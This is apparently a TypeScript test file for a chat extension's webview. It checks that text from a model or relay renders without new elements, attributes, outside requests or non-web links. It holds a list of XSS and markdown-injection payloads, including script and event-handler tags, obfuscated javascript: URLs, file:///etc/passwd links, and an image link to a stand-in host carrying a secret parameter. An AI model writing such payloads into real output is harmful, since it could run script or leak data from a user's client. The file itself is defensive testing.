import { deepStrictEqual } from 'node:assert/strict';
import { makeSnapshot, makeTurn } from './chatFacts.ts';
import { type ChatPage, openChatPage } from './chatPage.ts';

/** What a model could write, or be made to write, to get at the person who reads it. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src="https://evil.test/a.png" onerror="alert(1)">',
  'text <svg onload=alert(1)><a href="javascript:alert(1)">x</a></svg>',
  '<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object>',
  '<style>@import "https://evil.test/a.css"; body { background: url(https://evil.test/b.png) }</style>',
  '<link rel="stylesheet" href="https://evil.test/c.css"><meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<form action="https://evil.test"><input name="key"><button>Send</button></form>',
  '<base href="https://evil.test/"><video src="https://evil.test/v.mp4" autoplay></video>',
  '![picture](https://evil.test/track.png?secret=1)',
  '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![html](data:text/html,<script>alert(1)</script>)',
  '![relative](picture.png) ![file](file:///etc/passwd) ![x](vscode-resource:/x.png)',
  '[run](command:workbench.action.terminal.new) [js](javascript:alert(1)) [js](JaVa\\\nScript:alert(1))',
  '[js](java&#x09;script:alert(1)) [js](&#106;avascript:alert(1)) [vb](vbscript:x) [d](data:text/html,x)',
  '[code](vscode://file/etc/passwd) [file](file:///etc/passwd) [rel](/etc/passwd) [hash](#top) []()',
  '<javascript:alert(1)> <command:a.b> <vscode://x>',
  '[reference]\n\n[reference]: javascript:alert(1) "title\' onclick=alert(1)"',
  '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
  '```<img/src=x>\ncode\n```',
  '`<b>` **<i>** &lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
  '| <script>alert(1)</script> | ![p](https://evil.test/t.png) |\n| - | - |\n| <b onclick=x> | x |',
  '[^<img src=x>]: note\n\n[^<img src=x>]',
  'https://evil.test/"onclick="alert(1) www.evil.test/<script>',
  '# <h1 id="chat">\n\n1. <li value=3>\n\n> <blockquote cite="https://evil.test">',
];

/** Everything that drawn text may consist of. */
const allowed: Readonly<Record<string, readonly string[]>> = {
  A: ['role', 'tabindex', 'title', 'data-href', 'data-footnote', 'class', 'aria-label'],
  BUTTON: ['type', 'class', 'aria-label', 'title'],
  DIV: ['class', 'role', 'data-footnote-text', 'tabindex', 'aria-label'],
  IMG: ['src', 'alt'],
  INPUT: ['type', 'disabled', 'checked', 'aria-label'],
  LI: ['class'],
  OL: ['start'],
  SPAN: ['class', 'aria-hidden', 'data-code', 'role', 'tabindex', 'aria-label'],
  TH: ['scope', 'class'],
  TD: ['class'],
  ...Object.fromEntries(['H3', 'H4', 'H5', 'H6', 'P'].map((tag) => [tag, ['class']])),
  ...Object.fromEntries(
    ['BLOCKQUOTE', 'BR', 'CODE', 'DEL', 'EM', 'HR', 'PRE', 'STRONG', 'SUP', 'TABLE', 'TBODY', 'TR', 'UL'].map(
      (tag) => [tag, []],
    ),
  ),
};

describe('text from a model or a relay', () => {
  let chat: ChatPage;

  before(async () => {
    chat = await openChatPage();
    await chat.tell(
      makeSnapshot(
        ...attacks.map((text, index) =>
          makeTurn({
            id: `turn-${index}`,
            prompt: text,
            model: text,
            text,
            status: 'failed',
            failure: {
              title: text,
              advice: [text],
              relayMessage: text,
              requestId: text,
              actions: [{ id: 'tryAgain', label: text }],
            },
          }),
        ),
      ),
      { type: 'model', model: { id: attacks[0] ?? '', label: attacks[1] ?? '' } },
    );
    // Brings every answer near, so that all are drawn.
    await chat.page.evaluate(async () => {
      for (const turn of document.querySelectorAll('chat-turn')) {
        turn.scrollIntoView();
        await new Promise(requestAnimationFrame);
        await new Promise(requestAnimationFrame);
      }
    });
  });
  after(() => chat.close());

  it('never becomes an element or an attribute of its own', async () => {
    const found = await chat.page.evaluate(() =>
      [...document.querySelectorAll('.markdown, .markdown *')].map(({ tagName, attributes }) => ({
        tagName,
        names: [...attributes].map(({ name }) => name),
      })),
    );
    const strange = found.flatMap(({ tagName, names }) =>
      names
        .filter((name) => !allowed[tagName]?.includes(name))
        .map((name) => `${tagName} ${name}`)
        .concat(allowed[tagName] ? [] : [tagName]),
    );
    const undrawn = await chat.page.locator('.undrawn:visible').count();
    deepStrictEqual(
      { turns: found.length > 2 * attacks.length, undrawn, strange },
      { turns: true, undrawn: 0, strange: [] },
    );
  });

  it('reaches nobody, and breaks no rule of the page', () => {
    deepStrictEqual(
      { requests: chat.foreignRequests, problems: chat.problems },
      { requests: [], problems: [] },
    );
  });

  it('links to the web and to mail only', async () => {
    const protocols = await chat.page.evaluate(() => [
      ...new Set(
        [...document.querySelectorAll<HTMLElement>('[data-href]')].map((link) => {
          return new URL(link.dataset['href'] ?? '').protocol;
        }),
      ),
    ]);
    deepStrictEqual(protocols, ['https:', 'http:']);
  });

  it('shows where a link that it will not follow would lead', async () => {
    const turn = chat.page.locator('chat-turn').nth(12).locator('.markdown');
    deepStrictEqual(
      await turn.textContent(),
      [
        'run (command:workbench.action.terminal.new) js (javascript:alert(1)) [js](JaVa',
        'Script:alert(1))',
      ].join(''),
    );
  });
});
